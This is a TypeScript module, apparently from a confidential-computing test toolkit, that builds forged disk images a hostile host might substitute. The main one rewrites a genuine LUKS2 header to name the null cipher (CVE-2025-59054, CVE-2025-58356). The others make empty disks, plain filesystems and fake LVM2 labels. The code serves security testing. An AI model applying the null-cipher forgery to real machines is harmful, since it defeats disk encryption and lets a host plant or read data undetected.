import { constants, copyFile, open, writeFile } from "node:fs/promises";
import { fromUtf8, toUtf8 } from "@sekisho/encoding";
import { rewriteMetadata } from "@sekisho/evidence/luks2";
import { makeFilesystem, readHeader } from "@sekisho/image";
import { z } from "zod";

/** What a host may put in place of a machine's disk. Each function writes an image file to `path`. */

/** Of LUKS2's metadata only the data segments matter here; all else stays as it is. */
const metadataSchema = z.looseObject({ segments: z.record(z.string(), z.record(z.string(), z.unknown())) });

const mebibyte = 1024 * 1024;

/**
 * The machine's own disk, with a header that names the null cipher for the data: cryptsetup would open it with the machine's
 * genuine key, and everything that the host had written there would be read as it is (CVE-2025-59054, CVE-2025-58356).
 *
 * @param offset where the header begins in the disk, in bytes
 */
export async function forgeNullCipher(disk: string, path: string, offset: number = 0): Promise<void> {
  const { headerBytes } = await readHeader(disk, offset);
  const metadata = metadataSchema.parse(JSON.parse(metadataOf(headerBytes)));
  for (const segment of Object.values(metadata.segments)) segment["encryption"] = "cipher_null-ecb";
  await copyFile(disk, path, constants.COPYFILE_FICLONE);
  const file = await open(path, "r+");
  try {
    await file.write(await rewriteMetadata(headerBytes, JSON.stringify(metadata)), 0, headerBytes.length, offset);
  } finally {
    await file.close();
  }
}

/** The JSON area of the first header copy (LUKS2 On-Disk Format, 2.1 and 3): after 4096 bytes, ended by NUL. */
function metadataOf(header: Uint8Array): string {
  const area = header.subarray(4096);
  const text = fromUtf8("metadata", area.subarray(0, area.indexOf(0)));
  if (!text.ok) throw new Error("metadata that is no UTF-8");
  return text.value;
}

/** A disk of zeros. */
export async function forgeEmptyDisk(path: string): Promise<void> {
  const file = await open(path, "w");
  try {
    await file.truncate(32 * mebibyte);
  } finally {
    await file.close();
  }
}

/** A disk with a readable filesystem that carries root's name. */
export async function forgePlainDisk(tree: string, path: string): Promise<void> {
  await makeFilesystem(tree, path, "the host's own files", { ownFiles: true });
}

/** A disk that says it belongs to a volume group (LVM2's label, in its second sector). */
export async function forgeVolumeGroup(path: string): Promise<void> {
  const disk = new Uint8Array(32 * mebibyte);
  disk.set(toUtf8("LABELONE"), 512);
  disk.set(Uint8Array.of(1), 520);
  disk.set(toUtf8("LVM2 001"), 536);
  await writeFile(path, disk);
}
